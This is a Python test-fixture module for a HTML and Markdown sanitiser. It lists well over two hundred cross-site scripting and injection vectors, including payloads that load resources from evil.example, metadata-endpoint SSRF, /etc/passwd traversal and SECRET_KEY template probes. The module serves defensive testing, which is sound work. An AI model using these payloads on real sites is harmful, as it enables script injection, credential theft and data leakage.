"""Attacks on the sanitiser, as raw HTML and as Markdown. Every one must come out inert."""

XSS = r'''
<script>alert(1)</script>
<SCRIPT SRC=http://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<script x> alert(1) </script y>
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img src=x onerror="&#97;lert(1)">
<img/src=x/onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img """><script>alert(1)</script>">
<img src=javascript:alert(1)>
<img src="https://evil.example/pixel.png" alt=x>
<img src=`javascript:alert(1)`>
<img srcset="https://evil.example/a 1x" src=a>
<img src=x:x onerror=alert(1)//
<image src=x onerror=alert(1)>
<picture><source srcset="https://evil.example/a"><img src=b></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src="</noembed><iframe onload=alert(1)>" /></noembed>
<title><img src="</title><img src=x onerror=alert(1)>">
<textarea><img src="</textarea><img src=x onerror=alert(1)>">
<xmp><img src="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
<select><template><img src=x onerror=alert(1)></template></select>
<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<frameset><frame src="javascript:alert(1)"></frameset>
<form action="javascript:alert(1)"><input type=submit></form>
<form action="https://evil.example/"><input name=csrfmiddlewaretoken><button>go</button></form>
<button formaction="javascript:alert(1)">x</button>
<isindex type=image src=1 onerror=alert(1)>
<input onfocus=alert(1) autofocus>
<input type=password name=password>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus></textarea>
<keygen onfocus=alert(1) autofocus>
<video><source onerror="alert(1)"></video>
<video poster="https://evil.example/p.png"></video>
<audio src=x onerror=alert(1)>
<details ontoggle=alert(1) open>x</details>
<marquee onstart=alert(1)>x</marquee>
<bgsound src="javascript:alert(1)">
<layer src="https://evil.example/x"></layer>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="https://evil.example/">
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url(https://evil.example/x)}</style>
<div style="background:url(https://evil.example/x)">x</div>
<div style="width:expression(alert(1))">x</div>
<p style="position:fixed;inset:0">over everything</p>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript:https://x.example/%0aalert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="blob:https://x.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="filesystem:https://x.example/1">x</a>
<a href="//evil.example/">x</a>
<a href="/\evil.example/">x</a>
<a href="\\evil.example\x">x</a>
<a href="https:/\evil.example">x</a>
<a href="https://ok.example/" onclick=alert(1) target=_blank ping=https://evil.example>x</a>
<a href="https://ok.example/" rel="opener" class="btn primary">x</a>
<A/HREF="https://ok.example/">x</A>
<a
href="https://ok.example/">x</a>
<a href="/accounts/logout/">x</a>
<a name=x id=location href="#">x</a>
<a id=u-ok href="https://ok.example/">x</a>
<img name=getElementById>
<form id=test><input id=attributes></form>
<div hx-get="/accounts/logout/" hx-trigger=load>x</div>
<div data-hx-post="/x" data-hx-trigger=load>x</div>
<div hx-on:load="alert(1)" x-data="{}" @click="alert(1)" v-html="x">x</div>
<div onclick=alert(1) ONMOUSEOVER=alert(1) onclick\x0b=alert(1)>x</div>
<p class="admonition hidden fixed">x</p>
<td background="https://evil.example/x">x</td>
<table background="javascript:alert(1)"><tr><td>x</table>
<b/onmouseover=alert(1)>x</b>
<div/onmouseover='alert(1)'>x</div>
<p>x<!-- --><script>alert(1)</script><!-- --></p>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
<%<!--'%><script>alert(1)</script -->
<x onclick=alert(1)>x</x>
<custom-element onclick=alert(1)>x</custom-element>
<span is=x onclick=alert(1)>x</span>
<slot name=x></slot>
<dialog open onclose=alert(1)>x</dialog>
<div popover id=u-x ontoggle=alert(1)>x</div>
<p contenteditable onbeforeinput=alert(1)>x</p>
<p draggable=true accesskey=x tabindex=1 onfocus=alert(1)>x</p>
<div role=dialog aria-modal=true>x</div>
<a href="https://ok.example/"><a href="javascript:alert(1)">x</a></a>
'"><img src=x onerror=alert(1)>
--><script>alert(1)</script>
</div></div></main><script>alert(1)</script>
</textarea><script>alert(1)</script>
'''.strip("\n")

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](java%0Ascript:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](<java	script:alert(1)>)
[x](<	javascript:alert(1)>)
[x](\javascript:alert(1))
[x](vbscript:x)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/png;base64,iVBORw0KGgo=)
[x](file:///etc/passwd)
[x](blob:https://x.example/1)
[x](//evil.example)
[x](///evil.example)
[x](/\evil.example)
[x](\\evil.example)
[x](\\\\evil.example)
[x](http:evil.example)
[x](https:/\evil.example)
[x](https:\\evil.example)
[x](ftp://x.example/)
[x](tel:+123)
[x](<javascript:alert(1)>)
[x](javascript:alert(1) "title")
[x][ref]
<javascript:alert(1)>
<data:text/html,x>
<vbscript:x>
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](https://evil.example/x.png)
![x](//evil.example/x.png)
![x](http://127.0.0.1/x.png)
![x](http://169.254.169.254/latest/meta-data)
![x"onerror="alert(1)](a.png)
![x](a.png"onerror="alert(1))
![x](a.png "x\"onerror=\"alert(1)")
[x](a.md "x\"onclick=\"alert(1)")
[![x](javascript:a)](javascript:b)
[![x](https://evil.example/a.png)](https://ok.example/)
[x](https://ok.example/"onclick="alert(1))
`<script>alert(1)</script>`
~~<img src=x onerror=alert(1)>~~
| <img src=x onerror=alert(1)> |
# <img src=x onerror=alert(1)>
### " onclick="alert(1)
> <script>alert(1)</script>
- [x] <script>alert(1)</script>
term\n: <script>alert(1)</script>
[^1]\n\n[^1]: <script>alert(1)</script>
[^"><script>]\n\n[^"><script>]: x
\n\n[ref]: javascript:alert(1)\n[x][ref]
```<script>\nx\n```
```"onclick="alert(1)\nx\n```
```python onclick=alert(1)\nx\n```
```{note}\n<script>alert(1)</script>\n```
```{admonition} <img src=x onerror=alert(1)>\nx\n```
```{admonition} x\n:class: note" onclick="alert(1)\nx\n```
```{"><script>alert(1)</script>}\nx\n```
```{x.y:z} "><script>alert(1)</script>\nx\n```
```{raw} html\n<script>alert(1)</script><a href="javascript:x">x</a>\n```
```{figure} javascript:alert(1)\n:alt: x\n```
```{figure} https://evil.example/x.png\n:alt: "><script>alert(1)</script>\n```
```{figure} a.png\n:alt: x\n:target: javascript:alert(1)\n```
```{figure} a.png\n:alt: x\n:width: 1" onerror="alert(1)\n:align: left" onerror="alert(1)\n```
```{image} ../../../../etc/passwd\n```
```{dropdown} <script>alert(1)</script>\nx\n```
```{code-block} "><script>alert(1)</script>\nx\n```
!!! note "<img src=x onerror=alert(1)>"\n    x
!!! note "x" onclick=alert(1)\n    x
:::{note} <script>alert(1)</script>\n:::
:::{include} /etc/passwd\n:::
:::{literalinclude} ../../settings.py\n:::
{{ settings.SECRET_KEY }} {% include "x" %}
""".strip("\n")


def html_vectors() -> list[str]:
    return [line.replace("\\x0b", "\x0b") for line in XSS.split("\n")]


def markdown_vectors() -> list[str]:
    return [line.replace("\\n", "\n") for line in MARKDOWN.split("\n")]
